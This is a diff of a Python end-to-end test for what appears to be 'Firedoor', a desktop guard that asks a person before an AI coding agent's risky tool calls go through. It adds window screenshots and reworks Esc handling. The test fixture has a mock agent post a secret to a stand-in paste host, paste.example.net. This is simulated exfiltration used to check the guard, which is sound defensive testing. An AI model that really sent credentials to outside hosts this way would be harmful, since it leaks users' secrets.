@@ -7,6 +7,7 @@ With --pictures DIR it also writes what docs/images shows. Exits 1 when a step f
 """
 
 import argparse
+import contextlib
 import getpass
 import json
 import pathlib
@@ -70,10 +71,20 @@ class Test:
         print(f"  ok  {text} ({now - self.step_at:.1f} s)", flush=True)
         self.step_at = now
 
-    def picture(self, name):
-        """Keeps what the window shows."""
+    def picture(self, name, title="Firedoor"):
+        """Keeps what a window shows, as it is on the screen: WebDriver's own pictures may be of a moment before."""
         if self.pictures:
-            (self.pictures / f"{name}.png").write_bytes(self.browser.picture())
+            time.sleep(0.5)
+            self.desktop.window_picture(title, self.pictures / f"{name}.png")
+
+    def tray_picture(self):
+        """Keeps the tray's icon and menu, drawn by GTK from what the app tells the desktop."""
+        if self.pictures:
+            opened = self.desktop.order("popup")
+            expect(opened is True, f"the menu could not be drawn: {opened} {self.desktop.order('icon')}")
+            time.sleep(0.5)
+            self.desktop.window_picture("Tray", self.pictures / "tray.png")
+            self.desktop.order("popdown")
 
     def wait(self, true, what, seconds=15):
         """Waits until something is so."""
@@ -144,7 +155,7 @@ class Test:
             shown = self.browser.text()
             print(f"      the question was on screen {took * 1000:.0f} ms after the call was made, cold", flush=True)
             expect(took <= COLD_S, f"the question took {took:.2f} s")
-            for part in ("Claude Code", "outbox", "http_post", "paste.example.net", "through another tool?", "1 of 1"):
+            for part in ("Claude Code", "outbox", "http_post", "paste.example.net", "Send a credential out", "1 of 1"):
                 expect(part in shown, f"the question does not say {part!r}: {shown}")
             expect(secret not in shown, "the question shows the secret in clear")
             expect(self.browser.attribute("#allow", "aria-disabled") == "true", "the buttons were armed at once")
@@ -153,11 +164,13 @@ class Test:
             expect(not agent.answered(tag), "a click before the buttons are armed counted")
             self.done("the question comes up, names both ends, hides the secret, and takes no hasty click")
 
+            self.arm()
+            self.picture("prompt", "Firedoor question")
+            self.tray_picture()
             self.browser.click(".line2 button")
             ends = self.browser.text(".evidence")
             expect("files" in ends and "outbox" in ends, f"the evidence does not name both ends: {ends}")
-            self.arm()
-            self.picture("prompt")
+            self.picture("prompt-evidence", "Firedoor question")
             self.wait(lambda: "1 question…" in self.desktop.menu(), "the tray does not say that a question waits")
             notified = self.desktop.order("notifications")
             expect(notified and "open" in notified[-1]["actions"], f"nothing was notified: {notified}")
@@ -195,8 +208,7 @@ class Test:
 
             tag, at = agent.send("outbox", "http_post", url=PASTE, body=body), time.monotonic()
             self.prompt()
-            self.browser.do("POST", "/actions", {"actions": [{"type": "key", "id": "k", "actions": [
-                {"type": "keyDown", "value": "\ue00c"}, {"type": "keyUp", "value": "\ue00c"}]}]})
+            self.escape()
             self.gone()
             expect(not agent.answered(tag), "Esc answered the call")
             self.main_window()
@@ -211,13 +223,19 @@ class Test:
             self.prompt()
             self.wait(lambda: "Nobody answered in time" in self.browser.text(), "the question does not say that it is late")
             self.arm()
-            self.picture("prompt-late")
+            self.picture("prompt-late", "Firedoor question")
             self.browser.click("#allow")
             self.gone()
             text, error = agent.call("outbox", "http_post", url=PASTE, body=body)
             expect(not error and "202" in text, f"the repeated call did not pass: {text}")
             self.done("late Allow: refused after 45 s, then allowed from the tray, and the repeated call passes")
             self.look_back()
+
+    def escape(self):
+        """Presses Esc. The window may be gone before the key is up."""
+        strokes = [{"type": kind, "value": "\ue00c"} for kind in ("keyDown", "keyUp")]
+        with contextlib.suppress(NoSuch):
+            self.browser.do("POST", "/actions", {"actions": [{"type": "key", "id": "keys", "actions": strokes}]})
 
     def look_back(self):
         """Activity, and what runs."""
@@ -231,10 +249,6 @@ class Test:
             .find((row) => row.textContent.includes('Asked')).click()""")
         self.wait(lambda: "paste" in self.browser.text(".pane") or "outbox" in self.browser.text(".pane"), "no details")
         self.picture("activity")
-        if self.pictures:
-            self.desktop.order("popup")
-            time.sleep(1)
-            self.desktop.screen(self.pictures / "tray.png", "-crop", "400x340+0+0", "+repage")
         self.done("Home shows what runs under which sandbox, Activity what happened")
 
     def restore(self, config, original):
